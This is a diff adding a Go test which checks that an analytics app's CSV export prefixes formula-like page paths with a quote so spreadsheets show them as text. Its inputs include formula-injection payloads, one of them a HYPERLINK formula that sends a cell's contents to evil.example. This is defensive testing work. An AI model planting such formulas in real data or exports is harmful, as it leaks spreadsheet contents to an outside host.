@@ -3,6 +3,7 @@ package query
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"flag"
 	"fmt"
@@ -18,6 +19,8 @@ import (
 	"time"
 
 	"github.com/gofiber/fiber/v2"
+	"github.com/google/go-cmp/cmp"
+	"github.com/google/go-cmp/cmp/cmpopts"
 	"github.com/prometheus/client_golang/prometheus"
 	"go.opentelemetry.io/otel/propagation"
 	"go.opentelemetry.io/otel/sdk/trace/tracetest"
@@ -189,6 +192,56 @@ func TestStatsAPIBadRequests(t *testing.T) {
 		if resp.StatusCode != http.StatusBadRequest || json.Unmarshal(body, &e) != nil || e.Field != field || e.Error == "" {
 			t.Errorf("%s = %d %.200s; want 400 naming %s", path, resp.StatusCode, body, field)
 		}
+	}
+}
+
+// TestExportCSVShowsFormulasAsText: text a visitor's beacon chose (here page paths) that a
+// spreadsheet would run as a formula comes out of the CSV export with a leading quote, so
+// it opens as text; other text and the numbers are untouched.
+func TestExportCSVShowsFormulasAsText(t *testing.T) {
+	e := newWebEnv(t, "")
+	b := e.browser(t)
+	b.register("ann@example.com", "correct horse battery")
+	site := b.createSite("Shop", "shop.example")
+	ctx := context.Background()
+	if _, err := e.db.Pool.Exec(ctx, `SELECT ensure_event_partitions(now() - interval '1 day', now())`); err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct{ path, cell string }{
+		{`=HYPERLINK("https://evil.example/?"&A1,"x")`, `'=HYPERLINK("https://evil.example/?"&A1,"x")`},
+		{"+1+1", "'+1+1"},
+		{"-1+1", "'-1+1"},
+		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+		{"/pricing", "/pricing"},
+		{"/a=b+c-d@e", "/a=b+c-d@e"},
+	}
+	var want []string
+	for _, tt := range tests {
+		if _, err := e.db.Pool.Exec(ctx, `INSERT INTO events (site_id, ts, id, name, visitor_id, path)
+			VALUES ($1, now() - interval '1 minute', gen_random_uuid(), 'pageview', 1, $2)`, site, tt.path); err != nil {
+			t.Fatal(err)
+		}
+		want = append(want, tt.cell)
+	}
+	a := b.get(fmt.Sprintf("/app/sites/%d/data/export.csv?period=24h&dimension=page&limit=100", site))
+	if a.status != http.StatusOK {
+		t.Fatalf("export = %d %s", a.status, a.body)
+	}
+	records, err := csv.NewReader(strings.NewReader(a.body)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, r := range records[1:] {
+		if r[1] != "1" {
+			t.Errorf("row %q: visitors %q, want 1", r, r[1])
+		}
+		got = append(got, r[0])
+	}
+	if diff := cmp.Diff(want, got, cmpopts.SortSlices(func(a, b string) bool { return a < b })); diff != "" {
+		t.Fatalf("page cells of the export (-want +got):\n%s", diff)
 	}
 }
 
